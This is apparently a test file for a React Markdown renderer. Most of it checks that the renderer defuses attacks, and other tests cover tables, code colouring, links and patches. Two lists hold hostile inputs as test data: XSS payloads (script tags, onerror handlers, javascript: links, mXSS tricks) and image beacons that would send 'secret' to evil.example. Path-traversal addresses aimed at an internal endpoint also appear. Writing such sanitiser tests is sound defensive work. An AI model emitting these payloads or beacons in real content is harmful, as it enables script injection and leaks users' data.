import { cleanup, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";

import { languageOfPath } from "@/sdk_app/languages";
import { linkKind } from "@/sdk_app/links";
import { Markdown } from "@/sdk_app/markdown";
import { normalizePatch } from "@/sdk_app/patch_view";
import { InProcessWorker } from "../support/in_process_worker";

const to = vi.hoisted(() => vi.fn());
vi.mock("@/lib/navigation", () => ({ navigation: { to } }));

beforeEach(() => void vi.stubGlobal("Worker", InProcessWorker));
afterEach(cleanup);
// Parsers and grammars are large: loading them is no part of what is measured.
beforeAll(async () => {
  await Promise.all([import("@/sdk_app/markdown_body"), import("@/sdk_app/katex_render"), import("@/sdk_app/highlight")]);
}, 60_000);

/** Renders and waits until the parser has drawn the text. */
async function show(content: string) {
  const { container } = render(<Markdown content={`${content}\n\n---`} />);
  await waitFor(() => expect(container.querySelector("hr")).not.toBeNull(), { timeout: 10_000 });
  return container;
}

const kAttacks = [
  "<script>window.pwned = 1</script>",
  '<img src="x" onerror="window.pwned = 1">',
  "<svg onload=window.pwned=1><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](\tjavascript:window.pwned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "![x](javascript:window.pwned=1)",
  '<a href="java\nscript:window.pwned=1">x</a>',
  '<iframe src="https://example.org"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://example.org"><input name="q"><button>go</button></form>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://example.org/x.css">',
  '<div style="position:fixed;inset:0" onclick="window.pwned=1">over</div>',
  '<base href="https://example.org/">',
  '<meta http-equiv="refresh" content="0;url=https://example.org">',
  "<math><mtext></p><style><img src=x onerror=window.pwned=1></style></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<p id="root" name="__svcPluginRuntime" class="fixed inset-0" data-svc-plugin="todo">posing</p>',
  '<template><img src=x onerror="window.pwned=1"></template>',
  '<input type="image" src="x" onerror="window.pwned=1" autofocus onfocus="window.pwned=1">',
  "$\\href{javascript:window.pwned=1}{x}$",
  "$\\includegraphics{https://example.org/x.png}$",
  "$\\htmlClass{fixed}{x}$ $\\htmlStyle{position:fixed}{y}$",
];

/** What would be fetched as soon as it is shown, and carry away what its author knows. */
const kBeacons = [
  "![secret](https://evil.example/?q=secret)",
  "![secret](//evil.example/?q=secret)",
  "![secret](\\\\evil.example/?q=secret)",
  "![secret][image]\n\n[image]: https://evil.example/?q=secret",
  "[![secret](https://evil.example/?q=secret)](https://example.org)",
  '<img src="https://evil.example/?q=secret" alt="secret">',
  '<IMG SRC="HTTPS://evil.example/?q=secret" alt="secret">',
  '<img src="x" srcset="https://evil.example/?q=secret 2x" alt="secret">',
  '<picture><source srcset="https://evil.example/?q=secret"><img src="x" alt="secret"></picture>',
  '<video poster="https://evil.example/?q=secret" src="https://evil.example/v" autoplay></video>',
  '<audio src="https://evil.example/a" autoplay></audio>',
  '<table background="https://evil.example/?q=secret"><tr><td>secret</td></tr></table>',
  '<p style="background: url(https://evil.example/?q=secret)">secret</p>',
  '<input type="image" src="https://evil.example/?q=secret">',
];

describe("Markdown against attacks", () => {
  it.each(kAttacks)("shows %s without harm", async (attack) => {
    const container = await show(attack);
    await waitFor(() => expect(container.querySelector("span.font-mono")).toBeNull(), { timeout: 10_000 });
    expect(
      container.querySelectorAll(
        "script, style, link, iframe, object, embed, form, button:not([aria-label]), base, meta, svg[onload], template",
      ),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(value.replace(/\s/g, "")).not.toMatch(/^(javascript|vbscript|data):/i);
      }
      if (element.closest(".katex") === null) {
        expect(element.getAttribute("style")).toBeNull();
        expect(element.getAttribute("class") ?? "").not.toMatch(/\bfixed\b/);
      }
      expect(element.getAttribute("data-svc-plugin")).toBeNull();
      expect(element.id).not.toBe("root");
    }
    expect((window as { pwned?: number }).pwned).toBeUndefined();
  });
});

describe("Markdown that would fetch from elsewhere", () => {
  const fetched = (container: Element) =>
    [...container.querySelectorAll("*")].flatMap((element) =>
      ["src", "srcset", "poster", "background", "style", "data"].map((name) => element.getAttribute(name) ?? ""),
    );

  it.each(kBeacons)("fetches nothing for %s", async (beacon) => {
    const container = await show(beacon);
    expect(fetched(container).filter((value) => /[\\/]{2}evil\.example/i.test(value))).toEqual([]);
  });

  it("loads an image of another host when asked, and says which host it is", async () => {
    await show("[![A chart](https://images.example/chart.png)](https://example.org/page)");
    const follow = vi.fn((event: Event) => event.defaultPrevented);
    document.addEventListener("click", follow, { once: true });
    await userEvent.click(screen.getByRole("button", { name: "A chart · Load image from images.example" }));
    expect(follow).toHaveReturnedWith(true);
    expect(screen.getByRole("img", { name: "A chart" }).getAttribute("src")).toBe("https://images.example/chart.png");
    expect(screen.queryByRole("button", { name: /Load image/ })).toBeNull();
  });

  it("shows attachments and previews of files at once", async () => {
    const own = ["/api/v1/projects/proj_1/attachments/content?path=a.png", "/api/v1/files/previews/p1/docs/b%20c.png"];
    await show(own.map((address) => `![Own](${address})`).join(" "));
    expect(screen.getAllByRole("img").map((image) => image.getAttribute("src"))).toEqual(own);
  });

  it.each([
    "/api/v1/plugins/asker/http/ping?x=1",
    "api/v1/plugins/asker/http/ping",
    "/api/v1/threads",
    "/api/v1/files/previews/p1/../../../plugins/asker/http/ping",
    "/api/v1/files/previews/p1/%2e%2e/%2e%2e/%2e%2e/plugins/asker/http/ping",
    "/api/v1/files/previews/p1/..%2f..%2f..%2fplugins/asker/http/ping",
    "/api/v1/projects/proj_1/attachments/content/more",
    "docs/b.png",
  ])("asks nothing of this service for an image of %s", async (address) => {
    const container = await show(`![Own](${address})`);
    expect(screen.getByRole("button", { name: /^Own · Load image from \// })).toBeTruthy();
    expect(fetched(container).filter((value) => value.includes("/"))).toEqual([]);
  });
});

describe("Markdown", () => {
  it("shows characters that would turn the rest of a line around, or are not seen, and keeps them in the text", async () => {
    const container = await show("Open \u202etxt.evil &#x2066;x\n\n`a\u202db`\n\n```\nif \u2069 x\n```\n\n- \u200bone");
    const named = (selector: string) =>
      [...container.querySelectorAll(`${selector} [data-svc-hidden-character]`)].map((mark) =>
        mark.getAttribute("data-svc-hidden-character"),
      );
    expect(named("p")).toEqual(["\\u{202E}", "\\u{2066}", "\\u{202D}"]);
    expect(named("pre")).toEqual(["\\u{2069}"]);
    expect(named("li")).toEqual(["\\u{200B}"]);
    expect(container.querySelector("p")!.textContent).toBe("Open \u202etxt.evil \u2066x");
    expect(container.querySelector("p code")!.textContent).toBe("a\u202db");
  });

  it("shows a formula that hides characters as it is written", async () => {
    const container = await show("$a\u202eb$ and $x^2$");
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
    expect(container.querySelectorAll(".katex")).toHaveLength(1);
    expect(container.querySelector("[data-svc-hidden-character]")).not.toBeNull();
  });

  it("lays out each paragraph and list in the direction of its language, and tables by whole words", async () => {
    const container = await show("مرحبا.\n\n- שלום\n\n1. one\n\n| name |\n|---|\n| long |");
    const has = (selector: string, name: string) => container.querySelector(selector)!.classList.contains(name);
    for (const element of ["p", "th", "td"]) {
      expect(has(element, "[unicode-bidi:plaintext]"), element).toBe(true);
    }
    expect([...container.querySelectorAll("ul, ol")].map((list) => list.getAttribute("dir"))).toEqual(["auto", "auto"]);
    expect(has("table", "wrap-break-word")).toBe(true);
  });

  it("draws GitHub's tables, tasks, deletions and footnotes", async () => {
    const container = await show("# Title\n\n| a |\n|---|\n| 1 |\n\n- [x] did\n- [ ] open\n\n~~gone~~ and[^1]\n\n[^1]: The note.");
    expect(screen.getByRole("heading", { name: "Title" }).tagName).toBe("H2");
    expect(screen.getByRole("cell", { name: "1" })).toBeTruthy();
    expect(screen.getByRole("checkbox", { name: "Done" })).toHaveProperty("disabled", true);
    expect(screen.getByRole("checkbox", { name: "Not done" })).toHaveProperty("checked", false);
    expect(container.querySelector("del")?.textContent).toBe("gone");
    expect(screen.getByText(/The note/)).toBeTruthy();
  });

  it("colours code in the code theme and keeps its text", async () => {
    const container = await show("```ts\nconst a: number = 1;\n```");
    const pre = container.querySelector("pre")!;
    await waitFor(() => expect(pre.querySelector("span[style*=color]")).not.toBeNull(), { timeout: 10_000 });
    expect(pre.textContent).toBe("const a: number = 1;\n");
  });

  it("keeps the colours of code that is being written, and shows what is added at once", async () => {
    const text = (added: string) => `# T\n\n\`\`\`ts\nconst a: number = 1;\nconst b${added}`;
    const { container, rerender } = render(<Markdown content={text("")} />);
    const coloured = () =>
      [...container.querySelectorAll<HTMLElement>("pre span[style*=color]")].map(({ textContent }) => textContent).join("");
    await waitFor(() => expect(coloured()).toContain("const a"), { timeout: 10_000 });
    for (const added of [": str", ": string = ", ": string = `\nmore"]) {
      rerender(<Markdown content={text(added)} />);
      expect(coloured()).toContain("const a: number = 1;");
      expect(container.querySelector("pre")!.textContent).toBe(`const a: number = 1;\nconst b${added}\n`);
    }
    await waitFor(() => expect(coloured()).toContain("more"), { timeout: 10_000 });
    rerender(<Markdown content={"```ts\nother\n```"} />);
    expect(coloured()).toBe("");
  });

  it("shows code of a language nobody knows as it is", async () => {
    const container = await show("```no-such-language\n<b>x</b>\n```");
    expect(container.querySelector("pre")!.textContent).toBe("<b>x</b>\n");
  });

  it("draws formulas, and shows one with an error as it is", async () => {
    const container = await show("$x^2$ and $\\frac{1$\n\n$$\ny\n$$");
    await waitFor(() => expect(container.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(2), { timeout: 10_000 });
    expect(container.querySelector("math")).not.toBeNull();
    expect(container.textContent).toContain("\\frac{1");
  });

  it("does not take prices for formulas' end", async () => {
    const container = await show("It costs 5 dollars.");
    expect(container.querySelector(".katex")).toBeNull();
  });

  it("opens links of the web outside, follows those of the window in it", async () => {
    await show("[web](https://example.org) [in](/settings) [file](docs/a.md) <mailto:a@example.org>");
    const web = screen.getByRole("link", { name: "web" });
    expect([web.getAttribute("target"), web.getAttribute("rel")]).toEqual(["_blank", "noopener noreferrer"]);
    await userEvent.click(screen.getByRole("link", { name: "in" }));
    expect(to).toHaveBeenCalledWith("/settings");
    expect(screen.queryByRole("link", { name: "file" })).toBeNull();
  });

  it("moves to footnotes without leaving the page", async () => {
    const container = await show("A[^1]\n\n[^1]: The note.");
    const reference = container.querySelector<HTMLAnchorElement>("sup a")!;
    await userEvent.click(reference);
    expect(document.activeElement?.textContent).toContain("The note.");
    expect(location.hash).toBe("");
  });

  it("moves to headings by the names that GitHub gives them", async () => {
    await show("[to](#how-it-works-1) [gone](#nowhere)\n\n# How it *works*?\n\nOne.\n\n# How it works");
    await userEvent.click(screen.getByRole("link", { name: "gone" }));
    expect(document.activeElement?.tagName).not.toBe("H2");
    await userEvent.click(screen.getByRole("link", { name: "to" }));
    expect(document.activeElement).toBe(screen.getAllByRole("heading")[1]);
    expect(location.hash).toBe("");
  });

  it("shows a text that is too long to be parsed as it is", () => {
    const { container } = render(<Markdown content={"# a\n".repeat(150_000)} />);
    expect(container.querySelector("h2")).toBeNull();
    expect(container.textContent!.startsWith("# a")).toBe(true);
  });

  it("survives content that is no text", () => {
    render(<Markdown content={undefined as never} />);
    render(<Markdown content={7 as never} />);
    expect(screen.getByText("7")).toBeTruthy();
  });
});

describe("linkKind", () => {
  it.each([
    ["https://a", "web"],
    ["//a/b", "web"],
    ["/threads/1", "window"],
    ["/\\evil.example", "none"],
    ["#x", "fragment"],
    ["mailto:a@b", "other"],
    ["javascript:x", "none"],
    ["a/b.md", "none"],
    [undefined, "none"],
  ])("takes %s for %s", (href, kind) => {
    expect(linkKind(href)).toBe(kind);
  });
});

describe("languageOfPath", () => {
  it.each([
    ["a/b.ts", "ts"],
    ["Dockerfile", "docker"],
    ["x.HPP", "cpp"],
    ["Makefile", "make"],
    ["noext", undefined],
    [".profile", undefined],
    [null, undefined],
  ])("of %s is %s", (path, language) => {
    expect(languageOfPath(path)).toBe(language);
  });
});

describe("normalizePatch", () => {
  it("takes prefixes out where only git knows them, and names the file", () => {
    expect(normalizePatch("--- a/x\n+++ b/x\n@@ @@", null)).toBe("--- x\n+++ x\n@@ @@");
    expect(normalizePatch("diff --git a/x b/x\n--- a/x\n+++ b/x", null)).toContain("--- a/x");
    expect(normalizePatch("@@ -1 +1 @@\n-a\n+b", "x.ts")).toBe("--- x.ts\n+++ x.ts\n@@ -1 +1 @@\n-a\n+b");
  });
});
